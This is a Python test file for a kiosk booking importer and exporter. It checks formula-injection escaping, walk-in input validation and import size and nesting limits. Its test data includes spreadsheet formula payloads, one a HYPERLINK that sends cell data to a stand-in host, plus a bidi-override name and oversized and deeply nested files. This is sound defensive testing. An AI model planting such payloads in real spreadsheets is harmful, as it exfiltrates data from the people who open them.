"""Exports that cannot run formulas, walk-ins under the booking rules, bounded imports."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import date, time

import pytest

from kiosk.booking import importer
from kiosk.booking.importer import ImportFailed, export_day, import_bookings
from kiosk.services import walk_in
from kiosk.services.results import WalkInOutcome
from tests.conftest import table_counts

HEADER = "code,name,birth_date,date,slot,number,phone\n"
DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_exported_cells_never_start_a_formula_and_the_export_imports_back_unchanged(ctx, tmp_path):
    # GIVEN imported bookings whose codes look like formulas
    rows = [["code", "name", "birth_date", "date", "slot", "number", "phone"]] + [
        [code, "Siti Aminah", "1990-02-01", "2026-12-02", "08:00", "", ""] for code in
        ['=HYPERLINK("http://x.example","klik")', "+6281234", "-2+3", "@SUM(A1)"]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    (tmp_path / "in.csv").write_text(out.getvalue(), encoding="utf-8")
    assert import_bookings(ctx, tmp_path / "in.csv").added == 4
    # WHEN the day is exported
    text = export_day(ctx, date(2026, 12, 2))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # THEN no cell starts with a formula character, and re-importing changes nothing
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://x.example\",\"klik\")" in cells
    (tmp_path / "back.csv").write_text(text, encoding="utf-8")
    again = import_bookings(ctx, tmp_path / "back.csv")
    assert (again.added, again.unchanged) == (0, 4)


@pytest.mark.parametrize("value", DANGEROUS)
def test_every_formula_start_is_neutralised(value):
    from kiosk.reports.render import spreadsheet_safe, unescape_cell

    safe = spreadsheet_safe(value)
    assert safe == "'" + value and unescape_cell(safe) == value
    assert spreadsheet_safe("-12.5") == "-12.5" and spreadsheet_safe("Budi") == "Budi"


@pytest.mark.parametrize("birth,name", [
    (date(1800, 1, 1), None),  # 226 years old: not a lansia, a typo
    (date(1950, 1, 1), "Budi\u202eSantoso"),  # bidi override
    (date(1950, 1, 1), "Budi\x07Santoso"),  # control character
    (date(2027, 1, 1), None),  # born in the future
])
def test_walk_in_name_and_birth_pass_the_booking_rules(ctx, birth, name):
    before = table_counts(ctx)
    result = walk_in(ctx, "lansia", birth=birth, name=name)
    assert result.outcome is WalkInOutcome.INVALID_INPUT and not result.issued
    assert table_counts(ctx) == before
    ok = walk_in(ctx, "lansia", birth=date(1950, 1, 1), name="  Siti   Aminah ")
    assert ok.issued


def test_a_csv_over_the_row_limit_stops_at_the_limit_without_reading_it_all(ctx, tmp_path, monkeypatch):
    # GIVEN limits of 50 rows and 64 KB, and files just over each
    monkeypatch.setattr(importer, "MAX_ROWS", 50)
    monkeypatch.setattr(importer, "MAX_FILE_BYTES", 64 * 1024)
    rows = "".join(f"EXT-{i:05d},Siti Aminah,1990-02-01,2026-12-02,08:00,,\n" for i in range(51))
    (tmp_path / "rows.csv").write_text(HEADER + rows)
    (tmp_path / "big.json").write_text(json.dumps([{"code": "X" * 70000}]))
    before = table_counts(ctx)
    # WHEN they are imported THEN each is refused with its limit named, and nothing changes
    with pytest.raises(ImportFailed, match="lebih dari 50"):
        import_bookings(ctx, tmp_path / "rows.csv")
    with pytest.raises(ImportFailed, match="terlalu besar"):
        import_bookings(ctx, tmp_path / "big.json")
    assert table_counts(ctx) == before


def test_a_50_mb_file_is_refused_before_it_is_parsed(ctx, tmp_path):
    # GIVEN a 50 MB CSV (the real limits)
    path = tmp_path / "huge.csv"
    line = "EXT-00001,Siti Aminah,1990-02-01,2026-12-02,08:00,,\n"
    with path.open("w") as fh:
        fh.write(HEADER)
        fh.write(line * (50 * 1024 * 1024 // len(line)))
    # WHEN it is imported THEN it is refused, and memory stays far below the file's size
    tracemalloc.start()
    with pytest.raises(ImportFailed, match="terlalu besar"):
        import_bookings(ctx, path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5 * 1024 * 1024


def test_a_deeply_nested_json_list_is_a_plain_refusal(ctx, tmp_path):
    (tmp_path / "deep.json").write_text("[" * 100000 + "]" * 100000)
    with pytest.raises(ImportFailed, match="JSON"):
        import_bookings(ctx, tmp_path / "deep.json")
